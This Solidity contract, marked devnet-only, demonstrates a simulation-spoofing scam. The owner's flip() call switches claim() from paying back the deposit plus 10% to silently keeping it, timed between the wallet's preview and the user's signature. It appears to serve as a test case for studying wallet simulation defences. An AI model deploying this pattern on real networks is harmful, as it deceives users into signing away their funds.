// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// A "claim" whose owner flips what it does between the wallet's review and the user's signature (the state change
/// behind the simulation-spoofing losses ScamSniffer reported in January 2025): unflipped it pays the caller back their
/// deposit and 10 % more; flipped (`flip()`, owner only) it keeps the deposit. Devnet only.
contract FlipClaim {
    address public immutable owner;
    bool public flipped;

    constructor() payable {
        owner = msg.sender;
    }

    function flip() external {
        require(msg.sender == owner, "not owner");
        flipped = !flipped;
    }

    function claim() external payable {
        if (!flipped) {
            (bool ok, ) = payable(msg.sender).call{value: msg.value + msg.value / 10}("");
            require(ok, "payout failed");
        }
    }

    receive() external payable {}
}
